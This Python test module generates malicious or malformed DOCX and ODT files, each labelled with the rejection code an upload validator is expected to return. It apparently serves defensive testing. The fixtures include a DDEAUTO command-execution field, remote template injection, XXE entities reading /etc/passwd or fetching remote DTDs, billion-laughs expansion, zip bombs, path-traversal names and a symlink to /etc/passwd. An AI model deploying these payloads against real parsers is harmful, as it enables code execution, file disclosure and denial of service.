"""Documents of word processors that do, fetch or hide something, or grow when unpacked."""

import io
import stat
import struct
import zipfile
from collections.abc import Iterator, Mapping

from tests.bad_uploads.active import SITE
from tests.bad_uploads.writing import Bad

XML = '<?xml version="1.0" encoding="UTF-8"?>'
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OPEN = "urn:oasis:names:tc:opendocument:xmlns"
TYPES = (
    f'{XML}<Types xmlns="{PACKAGE}/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
    '+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
TEXT = "<w:p><w:r><w:t>Báo cáo</w:t></w:r></w:p>"
SITE_TEXT = SITE.decode()
Parts = Mapping[str, str | bytes]


def files() -> Iterator[Bad]:
    """Each with its name, which ends as its kind, and its code."""
    for name, code, content in (*_word(), *_open(), *_packed()):
        yield Bad(name, code, content)


def zipped(parts: Parts) -> bytes:
    """The parts in a ZIP, in their order."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def word_parts(body: str = TEXT, relations: str = "") -> dict[str, str | bytes]:
    """The parts of a document of Word."""
    start = f'{XML}<Relationships xmlns="{PACKAGE}/relationships">'
    main = f'<Relationship Id="r1" Type="{RELATIONS}/officeDocument" Target="word/document.xml"/>'
    return {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": f"{start}{main}</Relationships>",
        "word/document.xml": f'{XML}<w:document xmlns:w="{WORDS}" xmlns:o="urn:schemas-microsoft-'
        f'com:office:office"><w:body>{body}</w:body></w:document>',
        "word/_rels/document.xml.rels": f"{start}{relations}</Relationships>",
    }


def open_parts(body: str = "<text:p>Báo cáo</text:p>") -> dict[str, str | bytes]:
    """The parts of a document of LibreOffice."""
    names = "".join(f' xmlns:{each}="{OPEN}:{each}:1.0"' for each in ("office", "text", "draw"))
    names += f' xmlns:script="{OPEN}:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "META-INF/manifest.xml": f'{XML}<m:manifest xmlns:m="{OPEN}:manifest:1.0"><m:file-entry '
        'm:full-path="/" m:media-type="application/vnd.oasis.opendocument.text"/><m:file-entry '
        'm:full-path="content.xml" m:media-type="text/xml"/></m:manifest>',
        "content.xml": f'{XML}<office:document-content{names} office:version="1.2"><office:body>'
        f"<office:text>{body}</office:text></office:body></office:document-content>",
    }


def _word() -> Iterator[tuple[str, str, bytes]]:
    def docx(more: Parts, **other: str) -> bytes:
        return zipped({**word_parts(**other), **more})

    yield "macros.docx", "macros", docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    renamed = TYPES.replace("document.main+xml", "document.macroEnabled.main+xml")
    yield "macros_renamed.docx", "macros", docx({"[Content_Types].xml": renamed})
    yield "control.docx", "controls", docx({"word/activeX/activeX1.xml": f"{XML}<a/>"})
    package = '<w:p><w:r><w:object><o:OLEObject ProgID="Package"/></w:object></w:r></w:p>'
    yield "packed_program.docx", "ole_object", docx({}, body=package)
    for name, field in (
        ("dde", "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"),
        ("linked_table", "LINK Excel.Sheet.12 \\\\127.0.0.1\\x.xlsx"),
    ):
        simple = f'<w:p><w:fldSimple w:instr=" {field} "/></w:p>'
        yield f"{name}.docx", "dde", docx({}, body=simple)
    pieces = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in (" DD", "EAUTO x"))
    begun = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{pieces}</w:p>'
    yield "dde_in_pieces.docx", "dde", docx({}, body=begun)
    for name, kind, target, code in (
        ("template_elsewhere", "attachedTemplate", f"{SITE_TEXT}/x.dotm", "remote_template"),
        ("template_of_a_share", "attachedTemplate", "\\\\127.0.0.1\\x.dotm", "remote_template"),
        ("picture_elsewhere", "image", f"{SITE_TEXT}/x.png", "external_reference"),
        ("picture_of_the_server", "image", "file:///etc/passwd", "external_reference"),
        ("object_elsewhere", "oleObject", f"{SITE_TEXT}/x.hta", "external_reference"),
        ("frame_elsewhere", "frame", f"{SITE_TEXT}/x.htm", "external_reference"),
    ):
        relation = (
            f'<Relationship Id="r9" Type="{RELATIONS}/{kind}" Target="{target}" '
            'TargetMode="External"/>'
        )
        yield f"{name}.docx", code, docx({}, relations=relation)
    taken = f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;{SITE_TEXT}/x.png&quot; "/></w:p>'
    yield "picture_by_a_field.docx", "external_reference", docx({}, body=taken)
    chunk = f'<Relationship Id="r9" Type="{RELATIONS}/aFChunk" Target="afchunk.mht"/>'
    yield "another_document_within.docx", "embedded_file", docx({}, relations=chunk)
    for name, definition in (
        ("file_by_an_entity", '<!ENTITY x SYSTEM "file:///etc/passwd">'),
        ("site_by_an_entity", f'<!ENTITY x SYSTEM "{SITE_TEXT}/x">'),
        ("parameter_entity", f'<!ENTITY % x SYSTEM "{SITE_TEXT}/x.dtd"> %x;'),
        ("billion_laughs", _laughs()),
    ):
        body = str(word_parts(TEXT.replace("Báo cáo", "&x;"))["word/document.xml"])
        whole = body.replace(XML, f"{XML}<!DOCTYPE w [{definition}]>")
        yield f"{name}.docx", "xml_definitions", docx({"word/document.xml": whole})
        other = whole.replace("UTF-8", "UTF-16").encode("utf-16")
        yield f"{name}_utf_16.docx", "xml_definitions", docx({"word/document.xml": other})
    deep = "<w:sdt>" * 5_000 + "</w:sdt>" * 5_000
    yield "nested.docx", "nesting", docx({}, body=deep)
    yield "cut.docx", "broken", docx({"word/document.xml": f"{XML}<w:document"})
    yield (
        "encoding_of_nobody.docx",
        "broken",
        docx({"word/document.xml": '<?xml version="1.0" encoding="utf-7"?><a/>'}),
    )


def _laughs() -> str:
    more = "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!ENTITY x0 "ha">{more}<!ENTITY x "&x9;">'


def _open() -> Iterator[tuple[str, str, bytes]]:
    def odt(more: Parts, body: str = "<text:p/>") -> bytes:
        return zipped({**open_parts(body), **more})

    yield "macros.odt", "macros", odt({"Basic/Standard/Module1.xml": f"{XML}<a/>"})
    yield "python_macros.odt", "macros", odt({"Scripts/python/x.py": "import os"})
    listener = (
        '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>'
    )
    yield "macro_when_opened.odt", "macros", odt({}, listener)
    for name, inside in (
        ("picture_elsewhere", f'draw:image xlink:href="{SITE_TEXT}/x.png"'),
        ("picture_of_the_server", 'draw:image xlink:href="/etc/x.png"'),
        ("picture_beside", 'draw:image xlink:href="../../x.png"'),
        ("section_elsewhere", f'text:section-source xlink:href="{SITE_TEXT}/x.odt"'),
        ("frame_elsewhere", f'draw:floating-frame xlink:href="{SITE_TEXT}"'),
    ):
        around = "text:section" if "section" in inside else "draw:frame"
        element = f"<{around}><{inside}/></{around}>"
        yield f"{name}.odt", "external_reference", odt({}, element)
    dde = '<office:dde-source office:dde-application="soffice" office:dde-topic="x"/>'
    yield "dde.odt", "dde", odt({}, f'<text:section text:name="a">{dde}<text:p/></text:section>')
    for name in ("object-ole", "applet", "plugin"):
        element = f'<draw:frame><draw:{name} xlink:href="Object 1"/></draw:frame>'
        yield f"{name}.odt", "ole_object", odt({}, element)
    whole = str(open_parts()["content.xml"]).replace(XML, f"{XML}<!DOCTYPE a [{_laughs()}]>")
    yield "billion_laughs.odt", "xml_definitions", odt({"content.xml": whole})
    locked = str(open_parts()["META-INF/manifest.xml"]).replace(
        'm:media-type="text/xml"/>', 'm:media-type="text/xml"><m:encryption-data/></m:file-entry>'
    )
    yield "locked.odt", "encrypted", odt({"META-INF/manifest.xml": locked})


def _packed() -> Iterator[tuple[str, str, bytes]]:
    plain = zipped(word_parts())

    def docx(more: Parts) -> bytes:
        return zipped({**word_parts(), **more})

    for name in ("../../x.xml", "/etc/x.xml", "C:\\x.xml", "word\\..\\x.xml", "word/\x01.xml"):
        spelt = "".join(sign if sign.isalnum() else "_" for sign in name)
        yield f"part_named_{spelt}.docx", "odd_names", docx({name: "x"})
    yield "part_twice_by_case.docx", "odd_names", docx({"Word/Document.xml": "x"})
    out = io.BytesIO(plain)
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/media/x.png")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    yield "part_that_is_a_link.docx", "odd_names", out.getvalue()
    yield "bomb.docx", "zip_bomb", docx({"word/media/x.png": bytes(80 << 20)})
    yield "bomb_of_xml.docx", "zip_bomb", docx({"word/x.xml": b"<a>" + b" " * (80 << 20)})
    lying = bytearray(docx({"word/x.xml": b"<a>" + b" " * (80 << 20) + b"</a>"}))
    place = lying.rindex(b"word/x.xml") - 46 + 24  # the size in the list, APPNOTE.TXT §4.3.12
    struct.pack_into("<I", lying, place, 7)
    yield "bomb_told_small.docx", "broken", bytes(lying)
    yield "many_parts.docx", "too_many_parts", docx({f"word/{n}.txt": "" for n in range(1_001)})
    yield "program_before.docx", "polyglot broken", b"PK\x03\x04 a program" + plain
    yield "page_behind.docx", "polyglot broken", plain + b"<html><script>1</script>"
    other_name = plain.replace(b"word/document.xml", b"word/dokument.xml", 1)
    yield "other_name_within.docx", "broken", other_name
    yield "cut_off.docx", "broken", plain[:-40]
    flags = bytearray(plain)
    flags[flags.rindex(b"PK\x01\x02") + 8] |= 1
    yield "locked.docx", "encrypted", bytes(flags)
    yield "without_its_list.docx", "broken", zipped({"word/document.xml": "<a/>"})
